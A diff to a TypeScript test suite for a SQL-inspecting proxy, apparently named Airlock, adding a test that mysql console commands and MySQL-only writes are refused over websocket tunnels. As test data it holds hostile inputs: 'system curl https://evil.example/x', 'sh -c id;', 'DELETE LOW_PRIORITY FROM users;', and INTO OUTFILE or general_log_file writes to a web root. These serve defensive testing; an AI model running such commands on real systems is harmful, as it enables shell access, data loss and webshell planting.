@@ -25,7 +25,7 @@ import { Duplex } from 'node:stream';
 import { WebSocket, createWebSocketStream } from 'ws';
 import { missingPostgres, startPostgres } from '../helpers/pg-redis.ts';
 import type { ApprovalQueue } from '../../state/approvals.ts';
-import { HranaReader, PgFrontendReader } from '../../describe/tunnel-sql.ts';
+import { HranaReader, JsonMessagesReader, PgFrontendReader } from '../../describe/tunnel-sql.ts';
 import { AGENT_DEFLATE_TUNNELS } from '../../proxy/websocket-forward.ts';
 import { eventually, isProblem, startTestAirlock, startUpstream, tlsTunnel, upstreamCa, viaProxy, type UpstreamHandler } from './helpers.ts';
 import {
@@ -1820,6 +1820,44 @@ t.test('thirteenth pass: a line bridge (psql behind websocketd) joins text messa
     const { code, replies } = await wsExchange(`ws://sql.example:${rich.port}/chat`, [], msgs);
     t.ok(code !== 1008 && replies === msgs.length, `${JSON.stringify(msgs)}: relayed`);
   }
+});
+
+t.test('sixteenth pass: a mysql client behind websocketd runs its named commands, and MySQL-only writes it sends are held', async (t) => {
+  // MariaDB's client (10.11, fed a line per message against a server that answers OK) ran `system
+  // touch …` (a shell), `source /tmp/x.sql` (the file's DROP), `delimiter //` then `DROP TABLE t//`,
+  // and `DELETE LOW_PRIORITY FROM users;`: Airlock read none of them (no SQL word, or no grammar
+  // reads the text) and relayed each undecided. The reader over every spelling (in process), then
+  // a few through the proxy.
+  const commands = fc.record({
+    name: fc.constantFrom('system', 'source', 'pager', 'tee', 'edit', 'connect', 'charset', 'delimiter'),
+    arg: fc.constantFrom(' curl https://evil.example/x', ' /tmp/x.sql', ' sjis', ' //', ' app evil.example', ' sh -c id;'),
+    upper: fc.boolean(),
+    blank: fc.constantFrom('', '  ', '\t'),
+    lead: fc.constantFrom('', 'SELECT 1;', 'hello', 'SELECT 1;\n'),
+  });
+  fc.assert(fc.property(commands, ({ name, arg, upper, blank, lead }) => {
+    const reader = new JsonMessagesReader();
+    const line = `${blank}${upper ? name.toUpperCase() : name}${arg}`;
+    const refused = [...(lead ? [lead] : []), line].map((m) => reader.read(Buffer.from(m), false).refused).find(Boolean);
+    t.match(refused, /console command/, `${JSON.stringify(lead)} then ${JSON.stringify(line)}: refused`);
+  }), { numRuns: Math.min(numRuns * 4, 100), ...seed });
+  const held = (msgs: string[]): boolean => {
+    const reader = new JsonMessagesReader();
+    return msgs.map((m) => reader.read(Buffer.from(m), false)).some((r) => r.statements.some((st) => typeof st.body.sql === 'string'));
+  };
+  for (const msgs of [
+    ['DELETE LOW_PRIORITY FROM users;'], ['hello; DELETE LOW_PRIORITY FROM users;'], ['UPDATE LOW_PRIORITY users', 'SET role = 1;'],
+    ["SET GLOBAL general_log_file = '/var/www/html/x.php';"], ["SELECT * FROM users INTO OUTFILE '/var/www/html/x.php';"],
+    ['SELECT 1;'.repeat(65)],
+  ]) t.ok(held(msgs), `${JSON.stringify(msgs).slice(0, 80)}: unread SQL`);
+  for (const msgs of [['SELECT 1;'], ['please update the table', 'with the new values', 'thanks;'], ['status', 'warnings']]) t.notOk(held(msgs), `${JSON.stringify(msgs)}: not unread SQL`);
+  // Through the proxy: a command and a MySQL-only write close the tunnel; the client's harmless
+  // commands, a read and chat that names no write are relayed.
+  for (const msgs of [['SELECT 1;', 'system curl https://evil.example/x'], ['DELETE LOW_PRIORITY FROM users;']]) {
+    t.equal((await wsExchange(`ws://sql.example:${rich.port}/console`, [], msgs)).code, 1008, `${JSON.stringify(msgs)}: closed`);
+  }
+  const { code, replies } = await wsExchange(`ws://sql.example:${rich.port}/chat`, [], ['status', 'SELECT 1;', 'the system is down']);
+  t.ok(code !== 1008 && replies === 3, 'status, a read and chat are relayed');
 });
 
 t.test('fifteenth pass (on a real PostgreSQL 15): a search path names schemas case-sensitively, and DISCARD ALL acts as the login role again', { skip: missingPostgres() }, async (t) => {
